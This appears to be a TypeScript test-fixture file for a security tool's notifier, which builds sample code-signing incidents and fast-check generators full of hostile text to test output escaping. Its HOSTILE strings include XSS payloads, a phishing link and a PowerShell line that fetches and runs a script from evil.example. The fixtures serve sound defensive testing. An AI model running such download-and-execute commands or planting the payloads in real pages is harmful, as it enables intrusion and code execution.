/** Incidents, hostile strings, fast-check arbitraries and a controllable clock for notify tests. */
import fc from 'fast-check';
import { FINDING_SCHEMA_VERSION, type Finding, type Severity } from '../../shared/model/finding';
import { INCIDENT_SCHEMA_VERSION, type Incident } from '../../shared/model/incident';
import type { Clock } from '../../shared/clock';

export const HOSTILE = {
  link: '[click](https://evil.example/phish)',
  mention: '<at>Security Team</at>',
  bold: '**bold** __under__ _it_ ~~strike~~',
  html: '<img src=x onerror=alert(1)><script>alert(1)</script>',
  rtl: 'invoice\u202Eexe.pdf',
  zeroWidth: 'mal\u200Bware\uFEFF',
  url: 'powershell -c iwr https://evil.example/payload.ps1 | iex; start www.evil.example',
  heading: '# Heading\n> quote\n- item\n1. first',
  template: '{{DATE(2017-02-14T06:08:00Z, SHORT)}} ${secret}',
  controls: 'a\u0000b\u0007c\u001bd\u007fe\u0085f',
  tags: 'hidden\u{E0041}\u{E0042}text',
  surrogate: 'lone \uD800 surrogate',
} as const;

export function finding(overrides: Partial<Finding> = {}): Finding {
  return {
    schemaVersion: FINDING_SCHEMA_VERSION,
    id: 'dev1-42-2024-05-01T10:00:00Z',
    ruleId: 't1587-002',
    timestamp: '2024-05-01T10:00:00.000Z',
    commandLine: 'makecert.exe -r -pe -n "CN=Contoso Code Signing" -eku 1.3.6.1.5.5.7.3.3 -sv c.pvk c.cer',
    branch: 'MakeCert-NativeSDK',
    device: { id: 'dev1', name: 'ws-build-01.contoso.local' },
    account: { name: 'alice', domain: 'CONTOSO' },
    process: { fileName: 'makecert.exe', originalFileName: 'makecert.exe', folderPath: 'C:\\Tools', sha256: null, processId: 4242 },
    parent: { fileName: 'cmd.exe', commandLine: 'cmd.exe /c build.bat', processId: 4000, parentFileName: 'explorer.exe' },
    reportId: 42,
    flags: { suspiciousParent: false, tempLocation: false },
    severity: 'high',
    suppressedBy: null,
    inputIssues: [],
    raw: { DeviceName: 'ws-build-01.contoso.local' },
    tool: 'makecert',
    action: 'create-cert',
    certificate: { subject: 'CN=Contoso Code Signing', thumbprint: null, files: ['c.pvk', 'c.cer'], store: null, codeSigningEku: true },
    signedFile: null,
    signedFiles: [],
    decodedCommand: null,
    ...overrides,
  };
}

export function incident(overrides: Partial<Incident> = {}): Incident {
  const findings = overrides.findings ?? [
    finding(),
    finding({
      id: 'dev1-43',
      timestamp: '2024-05-01T10:05:00.000Z',
      commandLine: 'signtool.exe sign /f c.pfx /p hunter2 payload.exe',
      tool: 'signtool',
      action: 'sign',
      severity: 'medium',
      signedFile: 'payload.exe',
      signedFiles: ['payload.exe'],
      certificate: { subject: null, thumbprint: null, files: ['c.pfx'], store: null, codeSigningEku: false },
    }),
  ];
  return {
    schemaVersion: INCIDENT_SCHEMA_VERSION,
    id: 'inc_0123456789abcdef',
    tenantId: 'tenant-1',
    ruleId: 't1587-002',
    title: 'Self-signed code-signing certificate created and used on ws-build-01',
    chain: true,
    branch: 'MakeCert-NativeSDK',
    device: { id: 'dev1', name: 'ws-build-01.contoso.local' },
    accounts: ['CONTOSO\\alice'],
    signer: { subject: 'CN=Contoso Code Signing', thumbprint: 'A1B2C3D4E5F60718293A4B5C6D7E8F9011223344', file: 'c.cer' },
    firstSeen: '2024-05-01T10:00:00.000Z',
    lastSeen: '2024-05-01T10:05:00.000Z',
    findingCount: findings.length,
    findingIds: findings.map((f) => f.id),
    revision: 1,
    severity: 'high',
    confidence: 'high',
    reasons: [
      { code: 'code-signing-eku', text: 'The certificate is made for code signing (EKU 1.3.6.1.5.5.7.3.3).', severityDelta: 1, confidenceDelta: 1 },
      { code: 'chain', text: 'It was used to sign a file on the same device five minutes later.', severityDelta: 1, confidenceDelta: 1 },
      { code: 'build-host', text: 'The device name looks like a build server.', severityDelta: -1, confidenceDelta: 0 },
    ],
    attack: [
      { id: 'T1587.002', name: 'Develop Capabilities: Code Signing Certificates', url: 'https://attack.mitre.org/techniques/T1587/002/' },
      { id: 'T1553.002', name: 'Subvert Trust Controls: Code Signing', url: 'https://attack.mitre.org/techniques/T1553/002/' },
    ],
    falsePositiveHints: ['Developers create test certificates on build machines.'],
    links: {
      device: 'https://security.microsoft.com/machines/v2/dev1/overview',
      huntingQuery: 'https://security.microsoft.com/v2/advanced-hunting?query=H4sIAAAAAAAA&timeRangeId=month',
      allowlistSigner: 'https://codesign-hunt.example/allowlist/new?thumbprint=A1B2C3D4E5F60718293A4B5C6D7E8F9011223344',
    },
    status: 'new',
    window: { start: '2024-05-01T00:00:00.000Z', end: '2024-05-02T00:00:00.000Z' },
    chainLink: null,
    story: { actor: 'contoso\\alice', fileCount: 2, files: ['c.pfx', 'payload.exe'], previousIncidentId: null },
    findings,
    ...overrides,
  };
}

/** An incident where every attacker-controlled field carries `text`. */
export function hostileIncident(text: string): Incident {
  const f = finding({
    commandLine: `makecert -n "CN=${text}" ${text}`,
    account: { name: text, domain: text },
    device: { id: 'dev1', name: text },
    certificate: { subject: text, thumbprint: text, files: [text, `${text}.pvk`], store: text, codeSigningEku: true },
    signedFiles: [text],
    decodedCommand: text,
  });
  return incident({
    title: `Self-signed certificate ${text}`,
    device: { id: 'dev1', name: text },
    accounts: [text, text],
    signer: { subject: text, thumbprint: text, file: text },
    reasons: [{ code: 'x', text, severityDelta: 1, confidenceDelta: 0 }],
    falsePositiveHints: [text],
    findings: [f, { ...f, id: 'second', severity: 'low' }],
    findingCount: 2,
  });
}

export class TestClock implements Clock {
  constructor(private current = new Date('2024-05-01T12:00:00.000Z')) {}
  now(): Date {
    return new Date(this.current.getTime());
  }
  async sleep(ms: number): Promise<void> {
    this.advance(ms);
  }
  advance(ms: number): void {
    this.current = new Date(this.current.getTime() + ms);
  }
  set(at: Date): void {
    this.current = new Date(at.getTime());
  }
}

// ---------------------------------------------------------------------------------------------
// fast-check arbitraries: valid Incidents with hostile, huge and unicode text everywhere

const nastyChars = fc.constantFrom(
  '*', '_', '[', ']', '(', ')', '#', '>', '-', '+', '!', '~', '|', '`', '<', '{', '}', '\\', '"', '\n', '\r', '\t',
  '\u202E', '\u200B', '\uFEFF', '\u0000', '\u0085', '\u2028', '😀', '𝕏', 'é', '中', '\uD800', '://', 'www.', '<at>',
);
const hostileString = (maxLength: number) =>
  fc.oneof(
    { weight: 3, arbitrary: fc.string({ maxLength, unit: fc.oneof(fc.constantFrom('a', ' ', '.'), nastyChars) }) },
    { weight: 2, arbitrary: fc.string({ maxLength, unit: 'binary' }) },
    { weight: 1, arbitrary: fc.constantFrom(...Object.values(HOSTILE)) },
  );
const hugeString = fc.oneof(hostileString(40), fc.integer({ min: 1000, max: 40000 }).map((n) => '界'.repeat(n)), fc.integer({ min: 1000, max: 20000 }).map((n) => '😀'.repeat(n)));
const severity = fc.constantFrom<Severity>('informational', 'low', 'medium', 'high');
const nullable = <T>(a: fc.Arbitrary<T>) => fc.option(a, { nil: null });
const url = fc.oneof(
  fc.constant(null),
  fc.constant('https://security.microsoft.com/machines/x'),
  fc.constant('javascript:alert(1)'),
  fc.integer({ min: 100, max: 20000 }).map((n) => `https://example.com/?q=${'a'.repeat(n)}`),
);

export const findingArb: fc.Arbitrary<Finding> = fc
  .record({
    commandLine: hugeString,
    accountName: nullable(hostileString(80)),
    domain: nullable(hostileString(30)),
    subject: nullable(hostileString(200)),
    files: fc.array(hostileString(120), { maxLength: 60 }),
    signedFiles: fc.array(hostileString(120), { maxLength: 60 }),
    decoded: nullable(hugeString),
    severity,
    timestamp: fc.oneof(fc.constant('2024-05-01T10:00:00.000Z'), hostileString(40)),
  })
  .map((r) =>
    finding({
      commandLine: r.commandLine,
      account: { name: r.accountName, domain: r.domain },
      certificate: { subject: r.subject, thumbprint: null, files: r.files, store: null, codeSigningEku: true },
      signedFiles: r.signedFiles,
      decodedCommand: r.decoded,
      severity: r.severity,
      timestamp: r.timestamp,
    }),
  );

export const incidentArb: fc.Arbitrary<Incident> = fc
  .record({
    title: hugeString,
    deviceName: hugeString,
    accounts: fc.array(hostileString(100), { maxLength: 40 }),
    subject: nullable(hugeString),
    thumbprint: nullable(hostileString(200)),
    file: nullable(hostileString(300)),
    severity,
    findings: fc.array(findingArb, { minLength: 0, maxLength: 12 }),
    extraCount: fc.integer({ min: 0, max: 5000 }),
    reasons: fc.array(fc.record({ text: hugeString, delta: fc.integer({ min: -1, max: 1 }) }), { maxLength: 30 }),
    hints: fc.array(hostileString(300), { maxLength: 10 }),
    links: fc.record({ device: url, huntingQuery: url, allowlistSigner: url }),
    chain: fc.boolean(),
    status: fc.constantFrom('new' as const, 'updated' as const, 'closed' as const),
  })
  .map((r) =>
    incident({
      title: r.title,
      device: { id: null, name: r.deviceName },
      accounts: r.accounts,
      signer: { subject: r.subject, thumbprint: r.thumbprint, file: r.file },
      severity: r.severity,
      findings: r.findings,
      findingCount: r.findings.length + r.extraCount,
      findingIds: r.findings.map((_, i) => `f${i}`),
      reasons: r.reasons.map((x, i) => ({ code: `r${i}`, text: x.text, severityDelta: x.delta, confidenceDelta: 0 })),
      falsePositiveHints: r.hints,
      links: r.links,
      chain: r.chain,
      status: r.status,
    }),
  );
